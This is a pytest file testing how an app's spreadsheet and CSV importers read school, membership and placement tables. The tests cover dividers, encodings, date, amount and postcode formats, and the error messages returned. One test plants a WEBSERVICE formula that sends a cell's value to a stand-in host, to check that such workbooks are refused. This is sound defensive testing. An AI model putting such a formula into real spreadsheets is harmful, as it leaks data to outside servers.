"""Each importer, and each way in which an office's spreadsheet may have written its table."""

import datetime
from dataclasses import dataclass
from decimal import Decimal

import openpyxl
import pytest

from contracts.models import Membership
from nmiss.across.imports.kinds import IMPORTS
from nmiss.base.importing.tables import Rejected
from placements.models import Placement
from providers.models import School, Succession
from tests import county
from tests.importing.spreadsheets import as_csv, as_xlsx, bytes_of, fill, typed

pytestmark = pytest.mark.django_db

SECOND = {"URN": "900002", "EstablishmentName": "Birch School"}
DAY = datetime.date(2024, 9, 2)


@dataclass(frozen=True)
class Case:
    """An importer: a usual row of its, the column with a day, and how the day reads afterwards."""

    name: str
    row: dict
    day: str
    seen: object

    def on(self, text):
        return self.row | {self.day: text}


CASES = [
    Case("schools", county.SCHOOL, "OpenDate", lambda: School.objects.get(urn=900001).opened_on),
    Case("links", county.LINK, "LinkEstablishedDate", lambda: Succession.objects.get().from_on),
    Case("members", county.MEMBER, "admitted_on", lambda: Membership.objects.get().admitted_on),
    Case("placements", county.PLACEMENT, "starts_on", lambda: Placement.objects.get().starts_on),
]
OURS = CASES[2:]


@pytest.fixture(params=CASES, ids=lambda case: case.name)
def case(request):
    return request.param


@pytest.fixture(params=OURS, ids=lambda case: case.name)
def ours(request):
    return request.param


@pytest.fixture(autouse=True)
def _schools(request, db, take_schools):
    if "case" not in request.fixturenames or request.getfixturevalue("case").name != "schools":
        take_schools({}, SECOND)


@pytest.fixture
def take(tmp_path):
    """Take in bytes, or text as UTF-8, as the table of a case."""

    def take_it(case, content, *, name="table.csv", **options):
        path = tmp_path / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return IMPORTS[case.name].take_in(path, by=None, **options)

    return take_it


def refusal(take, *args, **options):
    with pytest.raises(Rejected) as rejected:
        take(*args, **options)
    return [
        (fault.line, fault.column, fault.value, fault.remedy) for fault in rejected.value.faults
    ]


class TestATable:
    @pytest.mark.parametrize("divider", [",", ";", "\t"])
    def test_is_read_whatever_divides_its_columns(self, take, case, divider):
        outcome = take(case, as_csv([case.row], divider=divider))

        assert (outcome.new, outcome.warnings) == (1, [])

    @pytest.mark.parametrize("divider", [",", ";", "\t", "|"])
    def test_is_read_where_it_says_what_divides_them(self, take, case, divider):
        before = f"sep={divider}\r\n"

        assert take(case, as_csv([case.row], divider=divider, before=before)).new == 1

    @pytest.mark.parametrize("end", ["\r\n", "\n", "\r"])
    @pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252"])
    def test_is_read_in_every_encoding(self, take, case, end, encoding):
        assert take(case, as_csv([case.row], end=end).encode(encoding)).new == 1

    @pytest.mark.parametrize(
        "write",
        [
            str.upper,
            str.title,
            lambda heading: heading.replace("_", " "),
            lambda heading: f" {heading} ",
            lambda heading: heading.replace(" ", "\u00a0").replace("_", "-"),
            lambda heading: f"{heading}:",
        ],
    )
    def test_is_read_with_its_headings_written_otherwise(self, take, case, write):
        row = {write(heading): cell for heading, cell in case.row.items()}

        outcome = take(case, as_csv([row]))

        assert (outcome.new, outcome.warnings) == (1, [])

    @pytest.mark.parametrize(
        "before", ["Autumn 2024\r\n", "Autumn 2024,,,,\r\n,,,\r\n", "Printed,26/11/2026\r\n\r\n"]
    )
    def test_may_have_a_title(self, take, case, before):
        assert take(case, as_csv([case.row], before=before)).new == 1

    def test_has_no_values_above_its_headings(self, take, case):
        values = as_csv([case.row]).partition("\r\n")[2]

        (fault,) = refusal(take, case, as_csv([case.row], before=values * 2))

        assert fault[0] == 3
        assert "the headings are in line 3" in fault[3]

    def test_names_a_missing_column_where_the_headings_are(self, take, case):
        row = {name: cell for name, cell in case.row.items() if name != next(iter(case.row))}

        (fault,) = refusal(take, case, as_csv([row], before="Autumn\r\n"))

        assert fault[:2] == (2, next(iter(case.row)))
        assert "add it to the headings, which are in line 2" in fault[3]

    @pytest.mark.parametrize("blank", [",,,,\r\n", "\r\n", " , ,\t\r\n", '"",""\r\n'])
    def test_may_have_blank_rows(self, take, case, blank):
        outcome = take(case, as_csv([case.row], after=blank * 3))

        assert (outcome.new, outcome.warnings) == (1, [])

    def test_may_have_empty_columns_at_its_right(self, take, case):
        text = as_csv([case.row]).replace("\r\n", ",,\r\n")

        assert take(case, text).new == 1


class TestAWorkbook:
    def test_is_read_as_text(self, take, case):
        assert take(case, as_xlsx([case.row]), name="t.xlsx").new == 1

    def test_is_read_with_days_and_numbers(self, take, case):
        outcome = take(case, as_xlsx([typed(case.on("2024-09-02"))]), name="t.xlsx")

        assert (outcome.new, outcome.warnings) == (1, [])
        assert case.seen() == DAY

    @pytest.mark.parametrize(
        ("epoch", "number"),
        [
            (openpyxl.utils.datetime.WINDOWS_EPOCH, 45537),
            (openpyxl.utils.datetime.MAC_EPOCH, 44075),
        ],
    )
    def test_is_read_with_days_that_it_shows_as_numbers(self, take, case, epoch, number):
        take(case, as_xlsx([case.row | {case.day: number}], epoch=epoch), name="t.xlsx")

        assert case.seen() == DAY

    def test_may_have_a_title_and_blank_rows(self, take, case):
        content = as_xlsx([case.row], above=[["Autumn 2024"], []])

        assert take(case, content, name="t.xlsx").new == 1

    def test_gives_the_row_of_the_sheet_as_the_line(self, take, ours):
        content = as_xlsx([ours.on("never")], above=[["Autumn"], []])

        assert [fault[:3] for fault in refusal(take, ours, content)] == [(4, ours.day, "never")]

    def test_may_have_other_sheets(self, take, case):
        book = openpyxl.Workbook()
        book.active.append(["Notes", "for", "the", "office"])
        fill(book.create_sheet(), [case.row], title="Data")

        assert take(case, bytes_of(book)).new == 1

    def test_has_one_such_table(self, take, case):
        book = openpyxl.Workbook()
        fill(book.active, [case.row], title="2024")
        fill(book.create_sheet(), [case.row], title="2025")

        (fault,) = refusal(take, case, bytes_of(book))

        assert "several such tables" in fault[3]

    def test_is_not_read_in_sheets_that_nobody_sees(self, take, case):
        book = openpyxl.Workbook()
        fill(book.active, [case.row], title="2024")
        hidden = book.create_sheet()
        fill(hidden, [case.row], title="2025")
        hidden.sheet_state = "hidden"

        assert take(case, bytes_of(book)).new == 1

    @pytest.mark.parametrize(
        ("content", "words"),
        [
            (b"PK\x03\x04 and no more", "this file is broken"),
            (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "of the old kind (.xls)"),
        ],
    )
    def test_that_cannot_be_read_is_refused(self, take, case, content, words):
        (fault,) = refusal(take, case, content)

        assert words in fault[3]

    def test_with_macros_is_refused_at_the_command_too(self, take, case):
        book = openpyxl.Workbook()
        fill(book.active, [case.row], title="Data")
        book.active["Z9"] = '=WEBSERVICE("https://x.example/"&A1)'

        (fault,) = refusal(take, case, bytes_of(book))

        assert "macros or other parts" in fault[3]


class TestADay:
    @pytest.mark.parametrize(
        "text",
        [
            "2024-09-02",
            "2024-09-02 00:00:00",
            "2024-09-02 00:00",
            "2024/09/02",
            "02/09/2024",
            "2/9/2024",
            "02/09/2024 00:00",
            "02-09-2024",
            "02-Sep-24",
            "2-Sep-2024",
            "2 September 2024",
            "02 Sept 2024",
            "Monday, 2 September 2024",
            "2nd September 2024",
        ],
    )
    def test_is_read_where_it_has_one_reading(self, take, case, text):
        outcome = take(case, as_csv([case.on(text)]))

        assert outcome.warnings == []
        assert case.seen() == DAY

    @pytest.mark.parametrize(
        ("text", "words"),
        [
            ("09/25/2024", "days are read as day/month/year, and there is no month 25"),
            ("31/02/2024", "give a day that exists"),
            ("2024-13-01", "give a day that exists"),
            ("2/9/24", "give the year with four digits"),
            ("02-Sep-31", "give the year with four digits"),
            ("45537", "a spreadsheet’s number for a day"),
            ("2024-09-02 14:30:00", "without a time of day"),
            ("Sep-24", "give a day that exists"),
            ("02.09.2024", "give a day that exists"),
            ("n/a", "give a day that exists"),
        ],
    )
    def test_is_not_guessed_at(self, take, ours, text, words):
        (fault,) = refusal(take, ours, as_csv([ours.on(text)]))

        assert fault[:3] == (2, ours.day, text)
        assert words in fault[3]

    @pytest.mark.parametrize("text", ["09/25/2024", "2/9/24", "45537", "31-02-2024"])
    def test_of_the_register_that_has_none_is_a_warning(self, take, take_schools, text):
        take_schools()

        outcome = take(CASES[0], as_csv([CASES[0].on(text) | {"SchoolCapacity": "77"}]))

        assert [(one.column, one.value) for one in outcome.warnings] == [("OpenDate", text)]
        school = School.objects.get(urn=900001)
        assert (school.opened_on, school.capacity) == (datetime.date(1999, 9, 1), 77)


class TestAnAmount:
    @pytest.mark.parametrize(
        "text",
        ["61184", "61184.0", "61184.00", "£61,184.00", "61,184", "£61184", "61 184", " 61184 "],
    )
    def test_is_read_as_people_write_it(self, take, text):
        take(CASES[3], as_csv([county.PLACEMENT | {"annual_fee": text}]))

        assert Placement.objects.get().annual_fee == Decimal("61184.00")

    @pytest.mark.parametrize(("value", "fee"), [(61184, "61184.00"), (0.1 + 0.2, "0.30")])
    def test_is_read_from_a_workbook(self, take, value, fee):
        take(CASES[3], as_xlsx([county.PLACEMENT | {"annual_fee": value}]))

        assert Placement.objects.get().annual_fee == Decimal(fee)

    @pytest.mark.parametrize(
        ("text", "words"),
        [
            ("-", '"-" is not an amount'),
            ("61.184,00", "is not an amount"),
            ("tbc", '"tbc" is not an amount'),
            ("6,1184", "is not an amount"),
            ("#N/A", "is not an amount"),
            ("-5", "cannot be negative"),
            ("£-5", "is not an amount"),
            ("1.005", "whole pence"),
        ],
    )
    def test_that_is_none_is_named(self, take, text, words):
        row = county.PLACEMENT | {"annual_fee": text}

        (fault,) = refusal(take, CASES[3], as_csv([row]))

        assert fault[:3] == (2, "annual_fee", text)
        assert words in fault[3]


class TestANumber:
    @pytest.mark.parametrize("text", ["900001", "900001.0", " 900001 ", "900001.00"])
    def test_of_a_school_is_read(self, take, ours, text):
        assert take(ours, as_csv([ours.row | {"school_urn": text}])).new == 1

    @pytest.mark.parametrize("text", ["60.0", " 60"])
    def test_in_the_register_is_read(self, take, take_schools, text):
        take_schools({"SchoolCapacity": "1"})

        outcome = take(CASES[0], as_csv([county.SCHOOL | {"SchoolCapacity": text}]))

        assert outcome.warnings == []
        assert School.objects.get(urn=900001).capacity == 60

    def test_of_the_register_itself_may_have_been_through_a_spreadsheet(self, take):
        outcome = take(CASES[0], as_csv([county.SCHOOL | {"URN": "900001.0"}]))

        assert (outcome.unchanged, outcome.warnings) == (1, [])


class TestAPostcode:
    @pytest.mark.parametrize(
        "text", ["CT20 3QA", "CT203QA", "ct20 3qa", "CT20  3QA", "CT20\u00a03QA", "CT2 03QA"]
    )
    def test_is_read_with_its_space_anywhere(self, take, text):
        take(CASES[3], as_csv([county.PLACEMENT | {"home_postcode": text}]))

        child = Placement.objects.select_related("child__identity").get().child
        assert child.identity.home_postcode == "CT20 3QA"


class TestALetter:
    def rows(self, *names):
        other = {"school_urn": "900002", "company_number": "ZZ000002"}
        return [
            county.MEMBER | {"provider_name": name} | (other if number else {})
            for number, name in enumerate(names)
        ]

    @pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252"])
    def test_is_what_it_was(self, take, encoding):
        name = "Café O’Brien – £"

        take(CASES[2], as_csv(self.rows(name)).encode(encoding))

        assert Membership.objects.get().provider.name == name

    @pytest.mark.parametrize("mark", [b"", b"\xef\xbb\xbf"])
    def test_in_two_encodings_is_named_by_its_line(self, take, mark):
        text = as_csv(self.rows("Café Ltd", "O?Brien Ltd")).encode()

        (fault,) = refusal(take, CASES[2], mark + text.replace(b"?", b"\x92"))

        assert fault[:3] == (3, "whole row", "O’Brien Ltd")
        assert "another encoding (Windows-1252)" in fault[3]

    @pytest.mark.parametrize("encoding", ["cp850", "mac-roman"])
    @pytest.mark.parametrize("name", ["Café Ltd", "Rössler Ltd", "Voilà Ltd", "Crème Ltd"])
    def test_of_an_encoding_that_nobody_can_tell_is_never_another(self, take, encoding, name):
        (fault,) = refusal(take, CASES[2], as_csv(self.rows(name)).encode(encoding))

        assert fault[0] == 2
        assert "save the table as CSV UTF-8" in fault[3]

    def test_of_the_register_is_read_line_by_line(self, take):
        rows = [
            county.SCHOOL | {"EstablishmentName": "Café School"},
            county.SCHOOL | SECOND | {"EstablishmentName": "École School"},
            county.SCHOOL | {"URN": "900003", "EstablishmentName": "O?Brien School"},
        ]

        outcome = take(CASES[0], as_csv(rows).encode().replace(b"?", b"\x92"))

        assert outcome.warnings == []
        names = set(School.objects.values_list("name", flat=True))
        assert names == {"Café School", "École School", "O’Brien School"}


class TestARow:
    def test_may_leave_out_empty_cells_at_its_end(self, take):
        text = as_csv([county.MEMBER]).replace("2022-09-01,", "2022-09-01")

        assert take(CASES[2], text).new == 1

    def test_may_not_leave_out_what_must_be_there(self, take):
        text = as_csv([county.PLACEMENT]).replace(",,36500", "")

        (fault,) = refusal(take, CASES[3], text)

        assert fault[:3] == (2, "whole row", "12 cells")

    def test_may_not_repeat_the_headings(self, take, ours):
        headings = dict(zip(ours.row, ours.row, strict=True))

        (fault,) = refusal(take, ours, as_csv([ours.row, headings]))

        assert fault[:2] == (3, "whole row")
        assert "repeats the headings" in fault[3]

    def test_holds_no_error_of_the_spreadsheet(self, take):
        (fault,) = refusal(take, CASES[2], as_csv([county.MEMBER | {"provider_name": "#REF!"}]))

        assert fault[:3] == (2, "provider_name", "#REF!")
